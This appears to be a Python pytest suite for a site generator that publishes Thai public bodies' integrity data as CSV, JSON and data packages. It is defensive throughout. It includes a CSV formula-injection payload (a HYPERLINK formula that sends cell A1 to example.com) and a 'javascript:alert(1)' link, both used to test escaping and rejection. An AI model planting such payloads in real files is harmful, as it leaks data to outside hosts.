"""Open data as published: valid packages, the figures of the pages, nothing that a spreadsheet runs."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import shutil
from collections import Counter
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any
from urllib.request import urlopen

import pytest
import yaml
from frictionless import Package

from builders import YEAR, measure, report, results
from conftest import ROOT, copy_project, run_prongsai, served
from html_pages import HtmlPage
from prongsai import addresses
from prongsai.derive.everything import everything
from prongsai.derive.tables import PORTAL_KINDS, YEAR_KINDS, year_tables
from prongsai.derive.tables.plan import Voice
from prongsai.load import YearFiles
from prongsai.render.csv_text import BYTE_ORDER_MARK, cell_text, table_text
from prongsai.render.environment import load_theme
from prongsai.render.frame import Place
from prongsai.render.open_data import column_values, json_text, year_dataset

THEME = load_theme(ROOT / "theme")
VOICE = Voice(lambda text: text, "ทุกส่วนงาน")
YEARS = [
    ("bang-krabue", 2565),
    ("bo-thong", 2566),
    ("bo-thong", 2567),
    ("na-udom", 2568),
    ("na-udom", 2569),
    ("sample-004", 2567),
    ("sample-004", 2568),
    ("thephalai", 2566),
    ("thephalai", 2567),
]
DAY = re.compile(r"\d{4}-\d\d-\d\d")
HEADING = re.compile(r'<h2 id="([a-z-]+)">[^<]*\((\d+)\)</h2>')
EVIL = '=HYPERLINK("http://example.com/?"&A1,"กด")'
Rows = list[dict[str, str]]


def rows_of(path: Path) -> Rows:
    """A CSV file's rows by column, read as a program would."""
    text = path.read_bytes().decode("utf-8")
    assert text.startswith(BYTE_ORDER_MARK)
    return list(csv.DictReader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))


def faults(folder: Path) -> list[str]:
    """What frictionless finds wrong in a package and in every row of it."""
    found = Package(str(folder / "datapackage.json")).validate()
    return [
        f"{error.type}: {error.message}"
        for error in [*found.errors, *(e for t in found.tasks for e in t.errors)]
    ]


@pytest.fixture(scope="module")
def rich(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The built website of one body that has every kind of row, with texts that a spreadsheet would run."""
    root = copy_project(tmp_path_factory.mktemp("rich"), ROOT / "tests/projects/good/units")
    path = root / "units/good/2567/measures/m1.yml"
    given = yaml.load(path.read_text("utf-8"), yaml.BaseLoader) | {"target": EVIL, "title": "+66 2000 0000"}
    path.write_text(yaml.safe_dump(given, allow_unicode=True, default_style='"'), "utf-8")
    run = run_prongsai("build", cwd=root)
    assert run.returncode == 0, run.stdout + run.stderr
    return root / "site"


# The packages


def test_every_body_and_year_has_its_data_and_so_has_the_portal(site: Path) -> None:
    found = {path.parent.relative_to(site).as_posix() for path in site.rglob("datapackage.json")}
    assert found == {"data", *(f"{unit}/{year}/data" for unit, year in YEARS)}


@pytest.mark.parametrize("folder", ["data", *(f"{unit}/{year}/data" for unit, year in YEARS)])
def test_a_package_is_valid(site: Path, folder: str) -> None:
    assert faults(site / folder) == []


def test_a_package_with_every_kind_of_row_is_valid(rich: Path) -> None:
    for folder in sorted(rich.glob("*/data")):
        assert faults(folder) == []
    assert [name for name in YEAR_KINDS if not any(map(rows_of, rich.glob(f"*/data/{name}.csv")))] == []


@pytest.mark.parametrize(
    ("name", "change", "fault"),
    [
        ("measures.csv", ("no-report", "forgotten"), "constraint"),
        ("measures.csv", ("2023-10-01", "1 ต.ค. 66"), "type-error"),
        ("measures.csv", ("fiscal_year", "year"), "incorrect-label"),
        ("steps.csv", ("m1-1", "m99"), "foreign-key"),
        ("findings.csv", ("t2--1", "t1--1"), "primary-key"),
        ("oit_items.csv", ("o2", "o3"), "hash-count"),
    ],
)
def test_a_seeded_fault_is_found(
    site: Path, tmp_path: Path, name: str, change: tuple[str, str], fault: str
) -> None:
    folder = shutil.copytree(site / "bo-thong/2567/data", tmp_path / "data")
    content = (folder / name).read_text("utf-8")
    assert change[0] in content
    (folder / name).write_text(content.replace(*change), "utf-8", newline="")
    found = faults(folder)
    assert any(each.startswith(fault) for each in found), found


@pytest.mark.parametrize("folder", ["data", "bo-thong/2567/data"])
def test_a_package_says_what_can_be_checked_and_under_which_terms(site: Path, folder: str) -> None:
    package = json.loads((site / folder / "datapackage.json").read_text("utf-8"))
    assert package["profile"] == "tabular-data-package"
    assert package["created"] == "2026-11-21T00:00:00Z"
    assert package["homepage"] == f"https://prongsai.example/{folder}/"
    assert package["licenses"] == [
        {
            "name": "CC-BY-4.0",
            "title": "ครีเอทีฟคอมมอนส์ แสดงที่มา 4.0 สากล (CC BY 4.0)",
            "path": "https://creativecommons.org/licenses/by/4.0/deed.th",
        }
    ]
    for resource in package["resources"]:
        content = (site / folder / resource["path"]).read_bytes()
        assert resource["bytes"] == len(content)
        assert resource["hash"] == f"sha256:{hashlib.sha256(content).hexdigest()}"
        for field in resource["schema"]["fields"]:
            assert field["title"]
            assert field["description"]


def test_the_licence_is_configured_left_out_or_refused(tmp_path: Path) -> None:
    project = copy_project(tmp_path / "a", ROOT / "tests/projects/good/units")
    config = yaml.safe_load((project / "mkdocs.yml").read_text("utf-8").replace("!ENV ", ""))
    config["site_url"] = ""
    del config["extra"]["licence"]
    (project / "mkdocs.yml").write_text(yaml.safe_dump(config, allow_unicode=True), "utf-8")
    run = run_prongsai("build", cwd=project)
    assert run.returncode == 0, run.stderr
    package = json.loads((project / "site/2567/data/datapackage.json").read_text("utf-8"))
    assert not {"licenses", "homepage"} & package.keys()
    text = "".join(HtmlPage(project / "site/2567/data/index.html").text)
    assert re.search(r"สัญญาอนุญาต\s*ไม่ได้ระบุ", text)
    for faulty in ({"name": "CC0-1.0"}, {"name": "own", "title": "own", "path": "javascript:alert(1)"}):
        config["extra"]["licence"] = faulty
        (project / "mkdocs.yml").write_text(yaml.safe_dump(config, allow_unicode=True), "utf-8")
        run = run_prongsai("build", cwd=project)
        assert run.returncode != 0
        assert "extra.licence" in run.stderr
        assert "Traceback" not in run.stderr


# The same as the pages


@pytest.mark.parametrize(("unit", "year"), YEARS)
def test_measures_by_state_and_remark_are_those_of_the_status_page(site: Path, unit: str, year: int) -> None:
    page = site / unit / addresses.status_page(year) / "index.html"
    measures = rows_of(site / unit / addresses.data_page(year) / "measures.csv")
    if not page.is_file():
        assert measures == []
        return
    shown = {name: int(count) for name, count in HEADING.findall(page.read_text("utf-8"))}
    counted = Counter(row["state"] for row in measures)
    counted.update(each for row in measures for each in row["remarks"].split() if each != "no-report")
    assert sum(shown.values()) >= len(measures) > 0
    assert {name: count for name, count in shown.items() if count} == counted
    summary = rows_of(page.parent.parent / "data/summary.csv")[0]
    assert summary["measures"] == str(len(measures))
    for state in (
        "done",
        "in-progress",
        "not-started",
        "cancelled",
        "unstated",
        "no-report",
        "late",
        "stale",
    ):
        assert summary[state.replace("-", "_")] == str(shown[state])


@pytest.mark.parametrize(("unit", "year"), YEARS)
def test_scores_are_those_of_the_page_of_results(site: Path, unit: str, year: int) -> None:
    page = site / unit / addresses.results_page(year) / "index.html"
    scores = rows_of(site / unit / addresses.data_page(year) / "scores.csv")
    if not page.is_file():
        assert scores == []
        return
    html = page.read_text("utf-8")
    cells = dict(
        re.findall(
            r'<tr role="row" id="([a-z0-9_]+)".*?data-label="คะแนน" class="px-number">([^<]*)<', html, re.S
        )
    )
    cells |= dict(re.findall(r'<h2 id="(ind\d+)">.*?<strong>([^<]*) คะแนน</strong>', html, re.S))
    total = re.search(r'px-big"><strong>([^<]*)</strong>', html)
    cells |= {"total": total[1]} if total else {}
    shown = {code: text.split(" (")[0] for code, text in cells.items() if text != "ไม่ได้ระบุ"}
    told = {row["code"]: row["printed"].replace("+", " ขึ้นไป") or row["score"] for row in scores}
    assert len(told) > 3
    assert told == shown


@pytest.mark.parametrize(("unit", "year"), YEARS)
def test_each_measure_leads_to_its_page_and_its_journal_is_there(site: Path, unit: str, year: int) -> None:
    folder = site / unit / addresses.data_page(year)
    entries = Counter(row["measure"] for row in rows_of(folder / "entries.csv"))
    steps = Counter(row["measure"] for row in rows_of(folder / "steps.csv"))
    for row in rows_of(folder / "measures.csv"):
        html = (site / unit / row["page"] / "index.html").read_text("utf-8")
        assert len(re.findall(r'id="entry-\d+"', html)) == entries[row["measure"]] == int(row["entries"])
        assert int(row["steps"]) + int(row["follow_ups"]) == steps[row["measure"]]


@pytest.mark.parametrize(("unit", "year"), YEARS)
def test_answers_are_those_of_the_sheet(site: Path, unit: str, year: int) -> None:
    page = site / unit / addresses.oit_page(year) / "index.html"
    items = rows_of(site / unit / addresses.data_page(year) / "oit_items.csv")
    if not page.is_file():
        assert items == []
        return
    ids = set(HtmlPage(page).ids)
    assert items
    assert {row["item"] for row in items} <= ids
    grid = HtmlPage(site / addresses.grid_page(year) / "index.html")
    answered = sum(row["is_answered"] == "true" for row in items)
    assert f"{answered} จาก {len(items)}" in "".join(grid.text)


def test_the_portals_files_are_the_sum_of_the_bodies(site: Path) -> None:
    portal = {name: rows_of(site / "data" / f"{name}.csv") for name in PORTAL_KINDS}
    own = {
        name: [row for unit, year in YEARS for row in rows_of(site / unit / f"{year}/data" / f"{name}.csv")]
        for name in ("summary", "scores", "measures")
    }
    assert [row["unit"] for row in portal["bodies"]] == sorted({unit for unit, _ in YEARS})
    assert portal["years"] == own["summary"]
    assert portal["scores"] == [row for row in own["scores"] if row["level"] not in ("question", "item")]
    shared = portal["measures"][0].keys()
    assert portal["measures"] == [{name: row[name] for name in shared} for row in own["measures"]]
    home = "".join(HtmlPage(site / "index.html").text)
    for body in portal["bodies"]:
        assert body["name"] in home


# What is written


def test_a_file_is_csv_as_excel_and_rfc_4180_want_it(rich: Path) -> None:
    for path in sorted(rich.rglob("data/*.csv")):
        content = path.read_bytes().decode("utf-8")
        assert content.startswith(BYTE_ORDER_MARK)
        assert content.endswith("\r\n")
        header, *rows = csv.reader(io.StringIO(content.removeprefix(BYTE_ORDER_MARK), newline=""))
        assert all(re.fullmatch("[a-z][a-z0-9_]*", name) for name in header)
        assert {len(row) for row in rows} <= {len(header)}
        years = {row[header.index("fiscal_year")] for row in rows}
        assert all(re.fullmatch(r"25\d\d", year) for year in years)
        days = [name for name in header if name.endswith("_day") or name.endswith("_on")]
        shown = [row[header.index(name)] for row in rows for name in days if row[header.index(name)]]
        assert all(DAY.fullmatch(day) and day.startswith("20") for day in shown)


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        (None, ""),
        ("", ""),
        ('ก, "ข"\nค', 'ก, "ข"\nค'),
        ("=1+1", "'=1+1"),
        ("+66", "'+66"),
        ("- รายการ", "'- รายการ"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("1=1", "1=1"),
        (Decimal("-1.50"), "-1.50"),
        (Decimal("1E+2"), "100"),
        (-3, "-3"),
        (True, "true"),
        (False, "false"),
    ],
)
def test_a_cell_is_exact_and_harmless(cell: Any, text: str) -> None:
    assert cell_text(cell) == text
    written = table_text(["a"], [[cell], [1]]).removeprefix(BYTE_ORDER_MARK)
    assert next(iter(csv.DictReader(io.StringIO(written, newline=""))), {"a": ""})["a"] in (text, "1")


def test_officers_text_never_runs_and_json_keeps_it_as_it_is(rich: Path) -> None:
    row = next(each for each in rows_of(rich / "2567/data/measures.csv") if each["measure"] == "m1")
    assert (row["target"], row["title"]) == (f"'{EVIL}", "'+66 2000 0000")
    tables = json.loads((rich / "2567/data/tables.json").read_text("utf-8"))
    exact = next(each for each in tables["measures"] if each["measure"] == "m1")
    assert (exact["target"], exact["title"]) == (EVIL, "+66 2000 0000")


def test_a_loss_keeps_its_sign_and_a_score_its_digits() -> None:
    body = report(
        YearFiles(YEAR, results=results({"total": "9.50", "q1": "9+"})),
        YearFiles(YEAR + 1, results=results({"total": "8.20"})),
    )
    text = year_dataset(THEME, body, body.years[1], Place()).texts[f"{YEAR + 1}/data/scores.csv"]
    assert f"demo,{YEAR + 1},total,total,,,printed,8.20,8.20,false,,{YEAR},9.50,-1.30\r\n" in text
    dataset = year_dataset(THEME, body, body.years[0], Place())
    assert (
        f"demo,{YEAR},q1,question,ind1,ทำงานตรงเวลา,printed,9+,,true,,,,\r\n"
        in dataset.texts[f"{YEAR}/data/scores.csv"]
    )
    assert '"score": 9.50,' in dataset.texts[f"{YEAR}/data/tables.json"]


def test_codes_in_braces_are_scores_as_on_the_page() -> None:
    body = report(
        YearFiles(YEAR, results=results({"total": "9.50"})),
        YearFiles(YEAR + 1, measures=(measure(approach="เดิมได้ {total} คะแนน", owners=["all"]),)),
    )
    text = year_dataset(THEME, body, body.years[1], Place()).texts[f"{YEAR + 1}/data/measures.csv"]
    assert "เดิมได้ 9.50 คะแนน" in text
    assert ",ทุกส่วนงาน," in text


def test_json_holds_the_same_rows_as_csv(site: Path) -> None:
    folder = site / "na-udom/2569/data"
    tables = json.loads((folder / "tables.json").read_text("utf-8"), parse_float=Decimal)
    assert list(tables) == list(YEAR_KINDS)
    for name, rows in tables.items():
        spelled = [{key: spell(value) for key, value in row.items()} for row in rows]
        assert spelled == [
            {key: re.sub(r"^'(?=[=+\-@])", "", value) for key, value in row.items()}
            for row in rows_of(folder / f"{name}.csv")
        ]


def spell(value: object) -> str:
    """A JSON value as its CSV cell."""
    if isinstance(value, bool):
        return str(value).lower()
    return "" if value is None else str(value)


def test_everything_is_what_the_pages_show(site: Path) -> None:
    year = json.loads((site / "na-udom/2569/data/everything.json").read_text("utf-8"))
    assert list(year) == ["body", "fiscal_year", "as_of", "summary", "results", "analysis", "measures", "oit"]
    tables = json.loads((site / "na-udom/2569/data/tables.json").read_text("utf-8"))
    assert len(year["measures"]) == len(tables["measures"])
    assert sum(len(each["step_rows"]) for each in year["measures"]) == len(tables["steps"])
    assert sum(len(each["entry_rows"]) for each in year["measures"]) == len(tables["entries"])
    assert len(year["analysis"]["findings"]) == len(tables["findings"])
    page = "".join("".join(HtmlPage(site / "na-udom/2569/analysis/index.html").text).split())
    for section in year["analysis"]["sections"]:
        first = (section["narrative"] or "").split("\n")[0]
        assert "".join(re.sub(r"[*#]|^- ", "", first).split()) in page


# What readers are told of it


def test_every_column_has_a_title_and_a_description_and_none_is_described_in_vain() -> None:
    kinds = {**YEAR_KINDS, **PORTAL_KINDS}
    assert THEME.data["tables"].keys() == kinds.keys()
    used = set()
    for name, kind in (*YEAR_KINDS.items(), *PORTAL_KINDS.items()):
        own = THEME.data["tables"][name]["columns"]
        names = {column.name for column in kind.columns}
        if name != "measures":
            assert own.keys() <= names
        used |= names - own.keys()
        for column in kind.columns:
            words = own.get(column.name) or THEME.data["columns"][column.name]
            assert words["title"]
            assert words["description"]
            if column.choices:
                assert set(column.choices) <= column_values(THEME, words["values"]).keys()
            assert column.type in THEME.data["types"]
    assert used == THEME.data["columns"].keys()
    measures = {column.name for column in YEAR_KINDS["measures"].columns}
    assert THEME.data["tables"]["measures"]["columns"].keys() <= measures


def keys_of(node: object) -> Iterator[str]:
    """Every key of a nested value."""
    if isinstance(node, dict):
        for key, value in node.items():
            yield key
            yield from keys_of(value)
    elif isinstance(node, list):
        for each in node:
            yield from keys_of(each)


def test_every_key_of_everything_is_explained(site: Path, rich: Path) -> None:
    files = [*site.rglob("everything.json"), *rich.rglob("everything.json")]
    keys = {key for path in files for key in keys_of(json.loads(path.read_text("utf-8")))}
    columns = {
        column.name for kind in (*YEAR_KINDS.values(), *PORTAL_KINDS.values()) for column in kind.columns
    }
    explained = set(THEME.data["keys"])
    assert keys - columns - explained == set()
    assert explained - keys == set()
    page = HtmlPage(rich / "data/index.html")
    assert set(THEME.data["keys"].values()) <= {text.strip() for text in page.text}


def test_the_page_leads_to_every_file_and_the_year_leads_to_the_page(site: Path) -> None:
    page = HtmlPage(site / "bo-thong/2567/data/index.html")
    files = {path.name for path in page.path.parent.iterdir()} - {"index.html"}
    assert files == {
        *(f"{name}.csv" for name in YEAR_KINDS),
        "tables.json",
        "everything.json",
        "datapackage.json",
    }
    assert files <= set(page.links)
    text = " ".join("".join(page.text).split())
    for name in YEAR_KINDS:
        assert f"{name}.csv" in text
    assert "วันที่ของข้อมูล21 พฤศจิกายน 2569" in text
    for above, link in (
        ("bo-thong/", "2567/data/"),
        ("bo-thong/2567/measures/", "../data/"),
        ("bo-thong/2566/results/", "../data/"),
        ("", "data/"),
    ):
        assert link in HtmlPage(site / above / "index.html").links


def test_the_files_are_as_large_as_the_page_says(site: Path) -> None:
    page = site / "bo-thong/2567/data/index.html"
    shown = re.findall(
        r'<a href="([a-z_]+\.\w+)" download.*?data-label="ขนาด" class="px-number">([^<]*)<',
        page.read_text("utf-8"),
        re.S,
    )
    assert len(shown) == len(YEAR_KINDS) + 3
    for name, size in shown:
        assert THEME.speller.size((page.parent / name).stat().st_size) == size


def test_machines_find_the_file_and_its_licence(site: Path) -> None:
    html = (site / "bo-thong/2567/measures/index.html").read_text("utf-8")
    found = re.search(r'<script type="application/ld\+json">(.*?)</script>', html, re.S)
    assert found
    what = json.loads(found[1])
    assert what["distribution"]["contentUrl"] == "https://prongsai.example/bo-thong/2567/data/everything.json"
    assert what["license"] == "https://creativecommons.org/licenses/by/4.0/deed.th"


def test_a_year_with_nothing_but_an_analysis_has_every_file() -> None:
    body = report(YearFiles(YEAR, results=results({})))
    dataset = year_dataset(THEME, body, body.years[0], Place())
    assert {path.removeprefix(f"{YEAR}/data/") for path in dataset.texts} == {
        *(f"{name}.csv" for name in YEAR_KINDS),
        "tables.json",
        "everything.json",
        "datapackage.json",
    }


def test_everything_is_written_with_its_keys_in_a_stable_order() -> None:
    body = report(YearFiles(YEAR, results=results({"total": "9"}), measures=(measure(),)))
    texts = {
        json_text(
            everything(
                body, body.years[0], year_tables(body, body.years[0], lambda _: VOICE), lambda _: VOICE
            )
        )
        for _ in range(3)
    }
    assert len(texts) == 1


def test_the_files_are_served_as_they_are(rich: Path) -> None:
    with served(rich) as address, urlopen(f"{address}2567/data/measures.csv") as answer:
        assert answer.read() == (rich / "2567/data/measures.csv").read_bytes()
